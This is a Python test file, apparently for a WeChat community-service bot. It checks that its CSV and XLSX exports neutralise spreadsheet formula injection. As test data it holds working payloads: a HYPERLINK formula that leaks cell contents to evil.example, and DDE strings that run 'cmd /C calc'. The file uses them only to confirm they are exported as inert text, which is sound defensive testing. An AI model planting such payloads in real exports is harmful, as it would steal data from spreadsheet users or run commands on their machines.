"""Every export opens in a spreadsheet as data: text that looks like a formula
(=HYPERLINK(...), +cmd|..., @SUM(...)) is never a live formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from openpyxl import load_workbook

from bot.spreadsheets import FORMULA_STARTS, csv_bytes, csv_cell, xlsx_bytes
from tests.fake_clock import FakeClock
from tests.fake_wechat import FakeWeChat, fake_wechat_fixture
from tests.ordering_catalog import write_catalog
from tests.test_broadcasts import cli, follow, schedule, send_all, service
from tests.test_console import add_user, csrf_of, login
from tests.webhook_app import Client, start

fake_wechat = fake_wechat_fixture()

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点我查看")'
DDE = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
EVIL_NAMES = {"property": HYPERLINK, "law": DDE, "community": AT_SUM, "clinic": MINUS}


def evil_catalog(directory: Path) -> Path:
    """The test catalog with units whose names are formulas (a catalog is written by
    people; an export must not trust it)."""
    path = write_catalog(directory)
    text = path.read_text(encoding="utf-8")
    for plain, evil in (
        ("阳光物业", HYPERLINK),
        ("共建律师事务所", DDE),
        ("测试社区居委会", AT_SUM),
        ("社区卫生服务中心", MINUS),
    ):
        text = text.replace(f"name: {plain},", f"name: '{evil.replace(chr(39), chr(39) * 2)}',")
    path.write_text(text, encoding="utf-8")
    return path


def assert_no_formula_starts(cells: list[str]) -> None:
    live = [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert not live, live


async def test_the_evaluation_exports_never_hold_live_formulas(
    db_url: str, aiohttp_client: Client, tmp_path: Path
) -> None:
    wechat = await start(aiohttp_client, db_url, catalog_path=evil_catalog(tmp_path))
    await add_user(wechat, "staff1", "staff")
    staff = await login(wechat, "staff1")
    token = await csrf_of(staff, "/console")
    for item, slot in (
        ("home-repair", ""),
        ("legal-consult", ""),
        ("allowance", ""),
        ("health-lecture", "first"),
    ):
        placed = await staff.post(
            "/console/proxy",
            data={
                "csrf": token,
                "item": item,
                "session": slot,
                "name": "张奶奶",
                "phone": "13800001234",
                "consent": "yes",
            },
            allow_redirects=False,
        )
        assert placed.status == 302, await placed.text()

    reply = await staff.get("/console/evaluation?format=csv")
    assert reply.status == 200
    rows = list(csv.reader(io.StringIO((await reply.read()).decode("utf-8-sig"))))
    names = {row[1] for row in rows[1:]}
    # The text is all there, behind a quote a spreadsheet shows as text.
    assert names == {"'" + evil for evil in EVIL_NAMES.values()}
    assert_no_formula_starts([cell for row in rows for cell in row])

    reply = await staff.get("/console/evaluation?format=xlsx")
    assert reply.status == 200
    sheet = load_workbook(io.BytesIO(await reply.read())).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    by_name = {row[1].value: row[1] for row in sheet.iter_rows(min_row=2)}
    for evil in EVIL_NAMES.values():
        # The exact text, as a string cell marked to stay text when edited.
        assert by_name[evil].value == evil and by_name[evil].data_type == "s"
        assert by_name[evil].quotePrefix
    await staff.close()


async def test_the_broadcast_csv_never_holds_live_formulas(
    db_url: str, aiohttp_client: Client, fake_wechat: FakeWeChat, tmp_path: Path
) -> None:
    """Openids come from outside (and anyone can use any in the simulator)."""
    clock = FakeClock.at("2026-12-07 10:00")
    wechat = await service(aiohttp_client, db_url, fake_wechat, clock)
    for openid in (HYPERLINK, "@o_at", "o_plain"):
        await follow(wechat, fake_wechat, openid)
    broadcast_id = await schedule(db_url, text="陌生来电一律挂断。")
    await send_all(wechat)
    report = tmp_path / "report.csv"
    status = await cli(db_url, "broadcast", "status", broadcast_id, "--csv", str(report))
    assert status.startswith("0\n"), status
    rows = list(csv.reader(io.StringIO(report.read_text(encoding="utf-8-sig"))))
    openids = sorted(row[1] for row in rows[1:])
    assert openids == sorted(["'" + HYPERLINK, "'@o_at", "o_plain"])
    assert_no_formula_starts([cell for row in rows for cell in row])


def test_every_formula_start_is_neutralised_and_numbers_are_left_alone() -> None:
    for first in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_cell(f"{first}1+1") == f"'{first}1+1"
    assert csv_cell(-5) == -5 and csv_cell(2.5) == 2.5 and csv_cell(None) is None
    assert csv_cell("2026-12") == "2026-12" and csv_cell("张三=李四") == "张三=李四"
    data = csv_bytes(["a", "b"], [["\t=1+1", 3], ["\r@x", None]])
    assert data.startswith(b"\xef\xbb\xbf")
    assert list(csv.reader(io.StringIO(data.decode("utf-8-sig")))) == [
        ["a", "b"],
        ["'\t=1+1", "3"],
        ["'\r@x", ""],
    ]
    book = load_workbook(io.BytesIO(xlsx_bytes("表", ["=h"], [["\x01=1+1"], [7], ["\t=1"]])))
    sheet = book.active
    assert sheet is not None
    values = [(c.value, c.data_type) for row in sheet.iter_rows() for c in row]
    # (A control character, which Excel cannot hold, is dropped rather than failing.)
    assert values == [("=h", "s"), ("=1+1", "s"), (7, "n"), ("\t=1", "s")]
